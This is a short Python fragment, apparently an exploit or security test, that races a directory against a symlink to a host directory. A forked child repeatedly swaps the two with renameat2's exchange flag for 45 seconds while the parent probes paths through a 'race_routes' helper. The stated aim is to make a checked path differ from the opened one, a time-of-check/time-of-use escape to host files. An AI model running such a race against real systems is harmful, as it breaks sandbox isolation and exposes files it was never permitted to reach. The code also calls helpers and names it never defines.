# Swaps a directory and a link to the host's all the time, so that what the pool looked at is not what it opens.
import time

os.mkdir("real")
open("real/bait.txt", "w").write("harmless")
os.symlink(HOST["directory"], "link")
if os.fork() == 0:
    end = time.monotonic() + 45
    while time.monotonic() < end:
        libc.renameat2(-100, b"real", -100, b"link", 2)
    os._exit(0)
for path in ("real/bait.txt", "link/bait.txt"):
    race_routes(path)
